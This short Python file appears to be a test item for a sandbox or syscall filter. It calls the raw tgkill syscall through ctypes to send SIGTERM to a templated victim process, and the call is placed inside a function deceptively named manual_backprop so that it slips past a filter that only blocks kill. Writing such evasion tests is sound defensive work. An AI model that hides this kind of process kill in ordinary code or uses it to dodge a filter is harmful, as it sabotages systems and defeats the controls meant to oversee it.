# exercise: 01.3
# tries: kill it through tgkill, past a filter that knows only kill
# proof: harmed
import ctypes
import platform

NUMBER = {"x86_64": 234, "aarch64": 131}


def manual_backprop(a, b, c, f):
    victim = int("@VICTIM@")
    ctypes.CDLL(None).syscall(NUMBER[platform.machine()], victim, victim, 15)
    return {}
